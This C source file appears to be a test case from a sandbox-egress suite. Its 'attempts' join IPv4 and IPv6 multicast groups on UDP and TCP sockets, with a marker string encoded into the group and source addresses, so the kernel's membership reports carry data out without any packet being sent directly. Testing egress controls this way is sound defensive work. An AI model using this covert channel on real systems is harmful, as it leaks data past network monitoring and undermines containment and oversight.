/* Nothing is sent: the kernel itself tells the network which multicast group was joined, and the group's address is the message. */
#include "attack.h"

static int udp(int family) { return must(socket(family, SOCK_DGRAM, 0)); }

static void joined_group_v4(void) {
    struct ip_mreqn group = {.imr_ifindex = (int)if_nametoindex(LINK)};
    inet_pton(AF_INET, "239.66.66.66", &group.imr_multiaddr);
    must(setsockopt(udp(AF_INET), IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof group));
    poll(NULL, 0, 300);
}

static void joined_group_v6(void) {
    struct ipv6_mreq group = {.ipv6mr_interface = if_nametoindex(LINK)};
    inet_pton(AF_INET6, "ff15::", &group.ipv6mr_multiaddr);
    snprintf((char *)group.ipv6mr_multiaddr.s6_addr + 2, 14, "%.13s", marker);
    must(setsockopt(udp(AF_INET6), IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &group, sizeof group));
    poll(NULL, 0, 300);
}

static void joined_source_group(void) {
    struct group_source_req request = {.gsr_interface = if_nametoindex(LINK)};
    struct sockaddr_in6 *group = (void *)&request.gsr_group, *source = (void *)&request.gsr_source;
    group->sin6_family = source->sin6_family = AF_INET6;
    inet_pton(AF_INET6, "ff35::66", &group->sin6_addr);
    snprintf((char *)source->sin6_addr.s6_addr, 16, "%.15s", marker);
    must(setsockopt(udp(AF_INET6), IPPROTO_IPV6, MCAST_JOIN_SOURCE_GROUP, &request, sizeof request));
    poll(NULL, 0, 300);
}

/* The same on a TCP socket. */
static void joined_group_on_tcp(void) {
    int fd = must(socket(AF_INET6, SOCK_STREAM, 0));
    struct ipv6_mreq group = {.ipv6mr_interface = if_nametoindex(LINK)};
    inet_pton(AF_INET6, "ff15::77", &group.ipv6mr_multiaddr);
    snprintf((char *)group.ipv6mr_multiaddr.s6_addr + 2, 14, "%.13s", marker);
    must(setsockopt(fd, IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &group, sizeof group));
    poll(NULL, 0, 300);
}

static const struct attempt attempts[] = {
    {"joined_group_v4", joined_group_v4},
    {"joined_group_v6", joined_group_v6},
    {"joined_source_group", joined_source_group},
    {"joined_group_on_tcp", joined_group_on_tcp},
};

MAIN(attempts)
